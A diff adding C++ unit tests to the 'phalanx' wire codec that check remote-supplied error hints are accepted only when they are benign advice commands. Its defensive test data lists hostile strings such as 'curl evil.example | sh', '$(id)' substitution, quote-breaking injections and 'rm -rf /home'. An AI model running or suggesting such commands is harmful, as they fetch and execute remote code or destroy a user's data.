@@ -75,5 +75,42 @@ TEST(Bounds, TooLargeForAFrameIsAnErrorAndLeavesTheBufferAlone) {
   EXPECT_EQ(out, "before");
 }
 
+// A hint is printed as a command to type: root of a host is not to choose what the user types on the launching machine.
+TEST(Bounds, OnlyTheAdviceOfOurAgentsIsTaken) {
+  auto heard = [](const std::string& hint) {
+    Started started;
+    started.outcome = {false, base::fail(base::ErrorKind::kUnfit, "no").with_hint(hint)};
+    std::string frame;
+    EXPECT_TRUE(encode(frame, started).ok());
+    base::Result<Started> back = decode<Started>(std::string_view(frame).substr(kFrameHeaderBytes));
+    return back.ok() ? back->outcome.error.hint : "refused";
+  };
+  for (std::string hint : {"stat /data", "stat '/my data'", "stat '/it'\\''s here'", "phalanx explain LIM-NOFILE",
+                           "create or mount it on this host, or choose another directory with --workdir"}) {
+    EXPECT_TRUE(is_advice_of_agent(hint)) << hint;
+    EXPECT_EQ(heard(hint), hint);
+  }
+  for (std::string hint :
+       {"curl evil.example | sh", "stat /x; curl evil.example|sh", "stat $(id)", "stat '/x'; id '", "stat '\\'';id'", "stat /x\nid",
+        "stat /a /b", "stat ~root", "stat ", "phalanx explain X; id", "phalanx explain ", "phalanx stop latest", "rm -rf /home"}) {
+    EXPECT_FALSE(is_advice_of_agent(hint)) << hint;
+    EXPECT_EQ(heard(hint), "") << hint;
+  }
+}
+
+TEST(Bounds, AHintThatIsOnTheWireAllTheSameIsLeftOut) {
+  Started started;
+  started.outcome = {false, base::fail(base::ErrorKind::kUnfit, "no").with_hint("stat /data")};
+  std::string frame;
+  ASSERT_TRUE(encode(frame, started).ok());
+  const size_t at = frame.find("stat /data");
+  ASSERT_NE(at, std::string::npos);
+  frame.replace(at, 10, "rm -rf /ho");
+  base::Result<Started> back = decode<Started>(std::string_view(frame).substr(kFrameHeaderBytes));
+  ASSERT_TRUE(back.ok());
+  EXPECT_EQ(back->outcome.error.message, "no");
+  EXPECT_EQ(back->outcome.error.hint, "");
+}
+
 }  // namespace
 }  // namespace phalanx::wire
